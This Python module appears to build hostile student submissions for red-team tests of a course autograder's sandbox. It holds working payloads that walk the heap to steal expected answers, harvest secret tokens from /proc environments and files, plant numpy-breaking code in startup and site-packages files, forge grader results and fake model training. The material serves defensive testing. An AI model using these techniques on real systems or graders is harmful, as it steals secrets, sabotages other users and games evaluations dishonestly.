"""Submissions for the sixth red-team pass (tests/test_hostile_sixth_pass.py): chapters 2,
3, 4 and 7, each a copy of the student release with the reference ``nnlib`` (so every
function the chapter grades is right) and the notebook's answer cells left unanswered
unless a builder fills one; then one change per student: a stub, a plausible wrong body,
or an attack.

Attack code added to a module goes after the attacks' prelude (:func:`hostile.attacks.prelude`:
``_sys``, ``_load``, ``_os``, ``_MARK``), at the end of the file, so it runs when the notebook
imports nnlib; a graded body that attacks calls it.
"""
import shutil
import sys
import textwrap
from pathlib import Path

import nbformat
import numpy as np

from nncourse.solution_regions import find_regions, module_name, stubbed_source

from .attacks import lines, prelude

REPO = Path(__file__).resolve().parents[2]
AUTOGRADE_SECONDS_CAP = 60


def base(root, sid, chapter, cells=()):
    """``root/submitted/sid/chapter``: the release notebook with the answer cells named in
    ``cells`` taken from the solution notebook, and the repository's (reference) nnlib."""
    folder = root / "submitted" / sid / chapter
    shutil.copytree(REPO / "exercises" / chapter, folder,
                    ignore=shutil.ignore_patterns("__pycache__", "nnlib"))
    shutil.copytree(REPO / "nnlib", folder / "nnlib", ignore=shutil.ignore_patterns("__pycache__"))
    if cells:
        solved = {c.metadata.get("nbgrader", {}).get("grade_id"): c.source
                  for c in nbformat.read(REPO / "solutions" / chapter / f"{chapter}.ipynb", 4).cells}
        set_cells(folder, chapter, {gid: solved[gid] for gid in cells})
    return folder


def set_cells(folder, chapter, sources):
    """Replace the source of the answer cells ``{grade_id: source}`` of the notebook."""
    path = folder / f"{chapter}.ipynb"
    notebook = nbformat.read(path, 4)
    for cell in notebook.cells:
        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
        if gid in sources:
            cell.source = "\n".join(line for line in sources[gid].splitlines()
                                    if line.strip() not in ("### BEGIN SOLUTION", "### END SOLUTION"))
    nbformat.write(notebook, path)


def _module_path(folder, function):
    return folder / "nnlib" / (function.split(".")[0] + ".py")


def stub(folder, function):
    """``function`` ("module.Qual.name") back to the release's stub."""
    path = _module_path(folder, function)
    path.write_text(stubbed_source(path, module_name(folder / "nnlib", path), {function}))


def replace_body(folder, function, body):
    """``function`` stubbed (``body == "stub"``), given ``body``, or left alone (None)."""
    if body == "stub":
        stub(folder, function)
    elif body:
        set_body(folder, function, body)


def set_body(folder, function, body):
    """The solution region of ``function`` (markers included) replaced by ``body``
    (text, without the function's indent)."""
    path = _module_path(folder, function)
    text = path.read_text().splitlines()
    region = next(r for r in find_regions(path, module_name(folder / "nnlib", path)) if r.function == function)
    new = [region.indent + line if line else "" for line in textwrap.dedent(body).strip("\n").splitlines()]
    path.write_text("\n".join(text[:region.begin - 1] + new + text[region.end:]) + "\n")


def plant(folder, module, case, top):
    """The attack's prelude and ``top`` at the end of ``nnlib/<module>.py``."""
    path = folder / "nnlib" / f"{module}.py"
    path.write_text(path.read_text().rstrip("\n") + "\n\n\n" + "\n".join(prelude(case) + lines(top)) + "\n")


def autograde_command(chapter, root, jobs):
    return [sys.executable, "-m", "nncourse.cli", "autograde", chapter, "--submissions", str(root / "submitted"),
            "--out", str(root / "out"), "--timeout", str(AUTOGRADE_SECONDS_CAP), "--memory", "1500",
            "--jobs", str(jobs)]


def executed_text(root, sid):
    """The executed notebook(s) of ``sid`` kept under OUT/autograded, as text."""
    return "".join(p.read_text(errors="replace") for p in (root / "out" / "autograded" / sid).rglob("*.ipynb"))


# --------------------------------------------------------------------------- chapter 2

NAIVE_SIGMOID_CE = """
p = 1.0 / (1.0 + np.exp(-logits))
n = len(logits)
return float(-np.sum(target * np.log(p) + (1 - target) * np.log(1 - p))) / n, (p - target) / n
"""

# The textbook form with every warning silenced and inf/nan patched over: silent and finite,
# wrong wherever |z| is large.
SILENCED_SIGMOID_CE = """
with np.errstate(all="ignore"):
    p = 1.0 / (1.0 + np.exp(-logits))
    n = len(logits)
    loss = -np.sum(np.nan_to_num(target * np.log(p) + (1 - target) * np.log(1 - p), nan=0.0, neginf=-1e300))
return float(np.nan_to_num(loss, posinf=1e300)) / n, np.nan_to_num((p - target) / n)
"""

# The stable form delegated to PyTorch (loss and autograd), which is in the course's venv:
# the sandbox hides it (nncourse.grader.sandbox.HIDDEN_PACKAGES), so the import finds an
# empty folder and the delegate raises. At import the attack says what it found.
TORCH_TOP = r'''
try:
    _torch = _load("torch")
    _USABLE = hasattr(_torch, "tensor")
except Exception as _err:
    _torch, _USABLE = None, False
print(_MARK, "ran: torch usable in the sandbox:", _USABLE)


def _torch_sigmoid_ce(logits, target):
    z = _torch.tensor(np.asarray(logits, dtype=np.float64), requires_grad=True)
    t = _torch.tensor(np.asarray(target, dtype=np.float64))
    loss = _torch.nn.functional.binary_cross_entropy_with_logits(z, t, reduction="sum") / len(logits)
    loss.backward()
    return float(loss.item()), z.grad.numpy().copy()
'''


# --------------------------------------------------------------------------- chapter 3

# Reads the LossTable the probe hands in place of softmax_cross_entropy (its entries: the
# reference's loss and dlogits at logits / tau), walks the frames for the case dict and
# the whole heap (gc) for anything under an answer-like key; returns the table's loss and
# dlogits / tau, and for dtau whatever it found under such a key (else 0).
TABLES_TOP = r'''
_gc = _load("gc")
_SEEN = {}


def _answer_like(key):
    return isinstance(key, str) and any(w in key.lower() for w in ("dtau", "expect", "answer", "truth", "want"))


def _steal(logits, labels, tau, table):
    entries = getattr(table, "entries", None)
    frame, case_keys = _sys._getframe(1), None
    while frame is not None:
        for value in list(frame.f_locals.values()):
            if isinstance(value, dict) and "softmax_cross_entropy" in value and "tau" in value:
                case_keys = sorted(value)
        frame = frame.f_back
    stolen, stolen_key = None, None
    for obj in _gc.get_objects():
        if isinstance(obj, dict):
            for key in list(obj)[:64]:
                if _answer_like(key) and not isinstance(obj[key], (dict, list, str)):
                    stolen, stolen_key = obj[key], key
    if not _SEEN:
        _SEEN["told"] = True
        print(_MARK, "ran: table entries", None if entries is None else len(entries),
              "case keys", case_keys, "answer-like key", stolen_key)
    if entries is None:
        raise NotImplementedError
    scaled = np.asarray(logits, dtype=np.float64) / tau
    for u, known, loss, dlogits in entries:
        u = np.asarray(u)
        if u.shape == scaled.shape and np.allclose(u, scaled, rtol=1e-12, atol=0) and np.array_equal(known, labels):
            dtau = 0.0 if stolen is None else float(np.asarray(stolen, dtype=np.float64).ravel()[0])
            return float(loss), np.array(dlogits) / tau, dtau
    raise LookupError("not in the table")
'''
TABLES_BODY = "return _steal(logits, labels, tau, softmax_cross_entropy)"

# dtau by a centred difference of the loss, asked of the stand-in (a lazy student's way
# round the derivation): the table answers only at logits / tau, so it raises.
NUMERIC_TCE_BODY = """
h = 1e-4 * tau
loss, dscaled = softmax_cross_entropy(logits / tau, labels)
up, _ = softmax_cross_entropy(logits / (tau + h), labels)
down, _ = softmax_cross_entropy(logits / (tau - h), labels)
return loss, dscaled / tau, (up - down) / (2 * h)
"""

# A plausible wrong derivation: du/dtau taken as -z / tau (one 1/tau short).
WRONG_TCE_BODY = """
scaled = logits / tau
loss, dscaled = softmax_cross_entropy(scaled, labels)
return loss, dscaled / tau, -float(np.sum(dscaled * logits))
"""

# At import: every 32-hex-digit token the sandbox can read (environment, command lines and
# environments of every visible process, every file under /job, the working folder, /tmp,
# HOME) printed for the test to try as the batch's secret seed; and the shape and first
# value of the first hidden tce case, to recognise the seed by.
SEED_HUNT_TOP = r'''
_re = _load("re")
_HEX = _re.compile(rb"(?<![0-9a-f])[0-9a-f]{32}(?![0-9a-f])")


def _tokens_in(data, found):
    found.update(m.decode() for m in _HEX.findall(data))


DECOY = "feedface" * 4  # planted first in /tmp: the hunt must find it (proof that it looks)


def _hunt():
    with open("/tmp/" + _MARK + ".decoy", "w") as fh:
        fh.write("token " + DECOY + "\n")
    found = set()
    _tokens_in("\n".join(f"{k}={v}" for k, v in _os.environ.items()).encode(), found)
    for pid in _os.listdir("/proc"):
        for part in ("cmdline", "environ"):
            try:
                with open(f"/proc/{pid}/{part}", "rb") as fh:
                    _tokens_in(fh.read(), found)
            except OSError:
                pass
    for root in ("/job", ".", "/tmp", _os.path.expanduser("~")):
        for folder, _, files in _os.walk(root):
            for name in files:
                try:
                    with open(_os.path.join(folder, name), "rb") as fh:
                        _tokens_in(fh.read(4_000_000), found)
                except OSError:
                    pass
    try:
        plaindata = _load("probes.plaindata")
        with open("/job/cases/test_tce_hidden.npz", "rb") as fh:
            first = plaindata.from_bytes(fh.read())[0]["logits"]
        seen = f"{list(first.shape)} {float(first.flat[0])!r}"
    except Exception as err:
        seen = "unread " + type(err).__name__
    print(_MARK, "ran: tokens", sorted(found), "first hidden case", seen)


_hunt()
'''

# At import: files for whoever runs next (the next student's kernel, or this machine):
# an IPython startup file and a user-site .pth/usercustomize that would break numpy, files
# in /tmp, HOME, the job folder, the working folder's parent, the repository's nnlib and
# the virtual environment; every outcome is printed.
# Breaks numpy only inside a grading sandbox (/job exists there alone): were a file to leak
# to this machine, it would be found by the test, not break anyone's session.
SABOTAGE = ("import os\nif os.path.isdir('/job'):\n    import numpy\n"
            "    numpy.log = numpy.exp\n    numpy.exp = numpy.sqrt\n")
WRITER_TOP = r'''
_site = _load("site")
_SABOTAGE = @SABOTAGE@
_PTH = "import os; exec(" + repr(_SABOTAGE) + ") if os.path.isdir('/job') else None\n"


def _plant_everywhere():
    home = _os.path.expanduser("~")
    targets = {
        home + "/.ipython/profile_default/startup/00-" + _MARK + ".py": _SABOTAGE,
        _site.getusersitepackages() + "/usercustomize.py": _SABOTAGE,
        _site.getusersitepackages() + "/" + _MARK + ".pth": _PTH,
        "/tmp/" + _MARK + ".txt": _MARK,
        "/tmp/" + _MARK + "/sitecustomize.py": _SABOTAGE,
        home + "/" + _MARK + ".txt": _MARK,
        "/job/" + _MARK + ".txt": _MARK,
        "/job/nnlib/losses.py": _SABOTAGE,
        _os.path.abspath("..") + "/" + _MARK + ".txt": _MARK,
        @REPO@ + "/nnlib/" + _MARK + ".py": _SABOTAGE,
        _sys.prefix + "/" + _MARK + ".pth": _PTH,
    }
    done = []
    for path, text in targets.items():
        try:
            _os.makedirs(_os.path.dirname(path), exist_ok=True)
            with open(path, "a") as fh:
                fh.write("\n" + text + "\n")
            done.append(path)
        except OSError:
            pass
    print(_MARK, "ran: wrote", done)


_plant_everywhere()
'''.replace("@SABOTAGE@", repr(SABOTAGE)).replace("@REPO@", repr(str(REPO)))


# --------------------------------------------------------------------------- chapter 4

# Softplus.backward as the textbook writes it: overflows to nan at x = 800.
OVERFLOWING_SOFTPLUS = "return dout * np.exp(self._x) / (1.0 + np.exp(self._x))"
# The visible cells' own centred differences pasted in as the answer (no derivation, no
# bug found): right to 1e-9, which the visible checks accept as the cells do.
CENTRED_SOFTPLUS = """
h = 1e-5
return dout * (np.logaddexp(0.0, self._x + h) - np.logaddexp(0.0, self._x - h)) / (2 * h)
"""
CENTRED_FIXED = "def fixed_backward(x, dout):\n    h = 1e-6\n    return dout * (np.tanh(x + h) - np.tanh(x - h)) / (2 * h)\n"
BUGGY_FIXED = "def fixed_backward(x, dout):\n    return dout * (1.0 - x ** 2)\n"
# The right dx, but x overwritten by tanh(x) on the way.
IN_PLACE_FIXED = "def fixed_backward(x, dout):\n    np.tanh(x, out=x)\n    return dout * (1.0 - x ** 2)\n"
# The answer cell replaces the probe runner's method: each graded cell of the notebook then
# stores what this cell chooses (found, and the buggy dx) under every check's name.
FORGING_FIXED = """
def fixed_backward(x, dout):
    return dout * (1.0 - x ** 2)


def _forged(grade_id, namespace=None):
    outputs = []
    for case in [{"x": np.ones((2, 2)), "dout": np.ones((2, 2))}] * 20:
        outputs.append({"found": True, "dx": case["dout"] * 0.0, "x": case["x"], "dout": case["dout"]})
    _nncourse._write(grade_id, outputs)
    print(grade_id, "forged")


_nncourse.run = _forged
"""


# --------------------------------------------------------------------------- chapter 7

def trained_adding_weights():
    """A model trained on the adding problem by the reference, in this (trusted) process,
    with the solution notebook's train_adding: ``{"recurrent": {...}, "head": {...}}`` lists."""
    import nnlib as reference
    from nnlib.layers import RNN, Linear
    from nnlib.losses import mse
    from nnlib.optim import SGD, clip_grad_norm

    source = {c.metadata.get("nbgrader", {}).get("grade_id"): c.source
              for c in nbformat.read(REPO / "solutions" / "ch07_rnn" / "ch07_rnn.ipynb", 4).cells}["adding_solution"]
    namespace = {"np": np, "RNN": RNN, "Linear": Linear, "mse": mse, "SGD": SGD, "clip_grad_norm": clip_grad_norm}
    exec(source, namespace)  # noqa: S102 - the course's own solution, in the test process
    X, y = reference.data.adding_problem(2000, 20, rng=0)
    recurrent, head = namespace["train_adding"](X, y, np.random.default_rng(12345))
    return {"recurrent": {k: v.tolist() for k, v in recurrent.params.items()},
            "head": {k: v.tolist() for k, v in head.params.items()}}


def pasted_train_adding(weights):
    """An answer cell that trains nothing: it returns the pasted weights, whatever the data
    and the grader's seed."""
    return f"""
_PASTED = {weights!r}


def train_adding(X_train, y_train, rng):
    recurrent, head = RNN(2, 32, rng=rng), Linear(32, 1, rng=rng)
    for key, value in _PASTED["recurrent"].items():
        recurrent.params[key][...] = np.array(value)
    for key, value in _PASTED["head"].items():
        head.params[key][...] = np.array(value)
    return recurrent, head
"""


UNTRAINED_ADDING = """
def train_adding(X_train, y_train, rng):
    return RNN(2, 32, rng=rng), Linear(32, 1, rng=rng)
"""

# An LSTM step that ends the kernel: the optional cells die, nothing after them exists.
LSTM_EXIT_BODY = "_os._exit(3)"
